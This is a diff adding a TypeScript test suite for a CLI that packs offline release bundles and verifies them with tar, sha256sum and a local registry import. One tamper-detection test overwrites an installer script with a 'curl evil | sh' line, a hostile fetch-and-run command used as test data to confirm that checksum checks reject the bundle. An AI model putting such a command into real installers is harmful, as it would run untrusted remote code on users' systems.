@@ -1,0 +1,166 @@
+// Offline bundles from a bundle.yaml, as a user builds them (the CLI): layout checked with
+// tar and sha256sum -c, the chart unpacked and compared, the bundle imported into an empty
+// registry; the plugin layout and its yaml checks.
+import { test, describe, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { chmodSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'yaml';
+import { startRegistry, type Registry } from '../support/registry.js';
+import { buildOciFixture, inspectRaw, pushFixture, sha256, type Fixture } from '../support/fixtures.js';
+import { workDir } from '../support/proc.js';
+import { needs } from '../support/tools.js';
+import { runCli } from '../support/cli.js';
+
+function write(path: string, text: string, mode = 0o644) {
+  mkdirSync(join(path, '..'), { recursive: true });
+  writeFileSync(path, text);
+  chmodSync(path, mode);
+}
+
+describe('bundles', { skip: needs('docker-registry', 'skopeo', 'sha256sum', 'tar') }, () => {
+  let fx: Fixture;
+  let src: Registry;
+  let product: string;
+  before(async () => {
+    fx = await buildOciFixture(workDir('fx'), { images: ['app', 'db'] });
+    src = await startRegistry();
+    pushFixture(fx, { host: src.host }, { namespace: 'release' });
+    product = workDir('product');
+    write(join(product, 'charts/compass/Chart.yaml'), 'apiVersion: v2\nname: compass\nversion: 1.2.0\nappVersion: "1.2.0"\n');
+    write(join(product, 'charts/compass/values.yaml'), '# registry for every image\nglobal:\n  imageRegistry: harbor.example.com  # rewritten for private mirrors\nreplicas: 2\n');
+    write(join(product, 'charts/compass/templates/deploy.yaml'), 'kind: Deployment\nimage: {{ .Values.global.imageRegistry }}/release/app:1.2.0\n');
+    write(join(product, 'charts/compass/.helmignore'), '*.bak\n');
+    write(join(product, 'charts/compass/notes.bak'), 'not packaged\n');
+    write(join(product, 'compose/docker-compose.yml'), `services:\n  app:\n    image: ${src.host}/release/app:1.0.0\n  db:\n    image: ${src.host}/release/db:1.0.0\n`);
+    write(join(product, 'installer/install.sh'), '#!/bin/sh\necho install\n', 0o755);
+    write(join(product, 'installer/cadm'), '#!/bin/sh\necho cadm\n', 0o755);
+    write(join(product, 'installer/config.sample'), 'key: value\n', 0o640);
+    write(
+      join(product, 'bundle.yaml'),
+      `name: compass\nversion: 1.1.0\nlayout: release\nimages:\n  list:\n    - ${src.host}/release/app:1.0.0\n    - ${src.host}/release/db:1.0.0\n  platform: linux/amd64\ncharts:\n  - path: charts/compass\n    imageRegistry: registry.site.local:5000\ncompose:\n  - compose\nfiles:\n  - path: installer\n`,
+    );
+  });
+  after(() => src.stop());
+
+  test('release layout: every component, modes kept, SHA256SUMS verifies, the chart unpacks to its sources', async () => {
+    const out = workDir('out');
+    const r = await runCli(['pack-offline', '--spec', join(product, 'bundle.yaml'), '--version', '1.2.0', '--output-dir', out]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(r.outputs.bundle, join(out, 'compass-1.2.0.tar'));
+    assert.equal(r.outputs.sha256, sha256(readFileSync(r.outputs.bundle)).slice(7));
+    const listing = execFileSync('tar', ['-tvf', r.outputs.bundle], { encoding: 'utf8' });
+    for (const p of ['images/images.tar', 'charts/compass-1.2.0.tgz', 'compose/compass-docker-compose.tar.gz', 'files/installer/install.sh', 'manifest.json', 'SHA256SUMS'])
+      assert.match(listing, new RegExp(`compass-1\\.2\\.0/${p.replace(/\./g, '\\.')}\\n`), p);
+    assert.match(listing, /-rwxr-xr-x .* compass-1\.2\.0\/files\/installer\/install\.sh/);
+    assert.match(listing, /-rw-r----- .* compass-1\.2\.0\/files\/installer\/config\.sample/);
+
+    const x = workDir('x');
+    execFileSync('tar', ['-xf', r.outputs.bundle, '-C', x]);
+    const root = join(x, 'compass-1.2.0');
+    execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: root, stdio: 'pipe' });
+    assert.equal(statSync(join(root, 'files/installer/cadm')).mode & 0o777, 0o755);
+
+    const m = JSON.parse(readFileSync(join(root, 'manifest.json'), 'utf8'));
+    assert.equal(m.version, '1.2.0');
+    assert.deepEqual(m.images.map((i: { digest: string }) => i.digest), [fx.images[0].manifests[0].digest, fx.images[1].manifests[0].digest]);
+    assert.deepEqual(m.compose[0].images, [`${src.host}/release/app:1.0.0`, `${src.host}/release/db:1.0.0`]);
+    assert.ok(m.files.some((f: { path: string; sha256: string }) => f.path === 'files/installer/install.sh' && f.sha256 === sha256('#!/bin/sh\necho install\n').slice(7)));
+
+    const chart = workDir('chart');
+    execFileSync('tar', ['-xzf', join(root, 'charts/compass-1.2.0.tgz'), '-C', chart]);
+    assert.deepEqual(readdirSync(join(chart, 'compass')).sort(), ['Chart.yaml', 'templates', 'values.yaml']);
+    for (const f of ['Chart.yaml', 'templates/deploy.yaml']) assert.equal(readFileSync(join(chart, 'compass', f), 'utf8'), readFileSync(join(product, 'charts/compass', f), 'utf8'));
+    const values = readFileSync(join(chart, 'compass/values.yaml'), 'utf8');
+    assert.equal(parse(values).global.imageRegistry, 'registry.site.local:5000');
+    assert.match(values, /# registry for every image/);
+    assert.equal(parse(values).replicas, 2);
+
+    const summaryLines = r.stderr;
+    assert.match(summaryLines, /chart\s+charts\/compass-1\.2\.0\.tgz/);
+
+    // import the whole bundle at the "site": inner checksums first, then the images
+    const dst = await startRegistry();
+    try {
+      rmSync(`${r.outputs.bundle}.sha256`);
+      const imp = await runCli(['pack-offline', '--mode', 'import', '--archive', r.outputs.bundle, '--target', `${dst.host}/site`]);
+      assert.equal(imp.code, 0, imp.stderr);
+      assert.match(imp.stderr, /is a bundle: verified \d+ checksums from compass-1\.2\.0\/SHA256SUMS/);
+      for (const [i, n] of ['app', 'db'].entries()) assert.equal(sha256(inspectRaw(`${dst.host}/site/release/${n}:1.0.0`)), fx.images[i].manifests[0].digest);
+    } finally {
+      await dst.stop();
+    }
+  });
+
+  test('a bundle whose content was changed is refused, naming the file inside', async () => {
+    const out = workDir('out');
+    const r = await runCli(['pack-offline', '--spec', join(product, 'bundle.yaml'), '--output-dir', out]);
+    assert.equal(r.code, 0, r.stderr);
+    const x = workDir('x');
+    execFileSync('tar', ['-xf', r.outputs.bundle, '-C', x]);
+    writeFileSync(join(x, 'compass-1.1.0/files/installer/install.sh'), '#!/bin/sh\ncurl evil | sh\n');
+    const tampered = join(out, 'tampered.tar');
+    execFileSync('tar', ['-cf', tampered, '-C', x, 'compass-1.1.0']);
+    const dst = await startRegistry();
+    try {
+      const imp = await runCli(['pack-offline', '--mode', 'import', '--archive', tampered, '--target', dst.host]);
+      assert.equal(imp.code, 1);
+      assert.match(imp.stderr, /checksum mismatch: files\/installer\/install\.sh has sha256 [a-f0-9]{64}, SHA256SUMS says [a-f0-9]{64}; the bundle was changed or damaged, nothing was imported/);
+      assert.deepEqual(((await (await fetch(`${dst.url}/v2/_catalog`)).json()) as { repositories: string[] }).repositories, []);
+    } finally {
+      await dst.stop();
+    }
+  });
+
+  test('plugin layout: one gzip image archive per image, names as the release process expects; the yaml is checked first', async () => {
+    const dir = workDir('plugin');
+    const images = `images:\n  list:\n    - ${src.host}/release/app:1.0.0\n    - ${src.host}/release/db:1.0.0\n`;
+    write(join(dir, 'demo.yaml'), `apiVersion: compass/v1\nkind: Plugin\nspec:\n  version: 1.2.0\n  containers:\n    - image: ${src.host}/release/app:1.0.0\n    - image: ${src.host}/release/db:1.0.0\n`);
+    write(join(dir, 'bundle.yaml'), `name: demo\nversion: 1.2.0\nlayout: plugin\n${images}plugin:\n  yaml: demo.yaml\n`);
+    const out = workDir('out');
+    const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', out]);
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal(r.outputs.bundle, join(out, 'compass-plugins-demo-1.2.0.tar.gz'));
+    const listing = execFileSync('tar', ['-tzf', r.outputs.bundle], { encoding: 'utf8' }).trim().split('\n').sort();
+    assert.deepEqual(listing, ['SHA256SUMS', 'compass-plugins-demo-app-1.2.0-image.tar.gz', 'compass-plugins-demo-db-1.2.0-image.tar.gz', 'demo.yaml', 'manifest.json']);
+    const x = workDir('x');
+    execFileSync('tar', ['-xzf', r.outputs.bundle, '-C', x]);
+    execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: x, stdio: 'pipe' });
+    execFileSync('gunzip', [join(x, 'compass-plugins-demo-db-1.2.0-image.tar.gz')]);
+    const cfg = JSON.parse(execFileSync('skopeo', ['inspect', '--config', `docker-archive:${join(x, 'compass-plugins-demo-db-1.2.0-image.tar')}`], { encoding: 'utf8' }));
+    assert.equal(cfg.architecture, 'amd64');
+
+    write(join(dir, 'demo.yaml'), `spec:\n  version: 1.1.0\n  containers:\n    - image: ${src.host}/release/app:1.0.0\n`);
+    const wrong = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
+    assert.equal(wrong.code, 1);
+    assert.match(wrong.stderr, /demo\.yaml: spec\.version is 1\.1\.0, but the bundle version is 1\.2\.0/);
+
+    write(join(dir, 'demo.yaml'), `spec:\n  version: 1.2.0\n  containers:\n    - image: ${src.host}/release/missing:1.0.0\n`);
+    const missing = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
+    assert.equal(missing.code, 1);
+    assert.match(missing.stderr, /demo\.yaml names image .*release\/missing:1\.0\.0, which is not among the bundle's images/);
+  });
+
+  test('spec mistakes name the file and the key', async () => {
+    const dir = workDir('bad');
+    const cases: [string, RegExp][] = [
+      ['name: Compass\nversion: 1\n', /bundle\.yaml: name must be lower-case/],
+      ['name: c\n', /bundle\.yaml: version is missing or not a version/],
+      ['name: c\nversion: 1\nimages: [Harbor.x/A:1]\n', /bundle\.yaml: images line 1: "Harbor.x\/A:1" is not a valid image reference/],
+      ['name: c\nversion: 1\ncharts: [nope]\n', /bundle\.yaml: charts\[0\]: nope was not found/],
+      ['name: c\nversion: 1\nlayout: plugin\n', /layout plugin needs plugin\.yaml/],
+      ['name: c\nversion: 1\nextra: 1\n', /bundle\.yaml: unknown key "extra"/],
+    ];
+    for (const [text, re] of cases) {
+      write(join(dir, 'bundle.yaml'), text);
+      const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
+      assert.equal(r.code, 1, text);
+      assert.match(r.stderr, re);
+    }
+    write(join(dir, 'chart/Chart.yaml'), 'apiVersion: v2\nname: c\nversion: one\n');
+    write(join(dir, 'bundle.yaml'), 'name: c\nversion: 1\ncharts: [chart]\n');
+    const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
+    assert.match(r.stderr, /Chart\.yaml: version "one" is not SemVer 2/);
+  });
+});
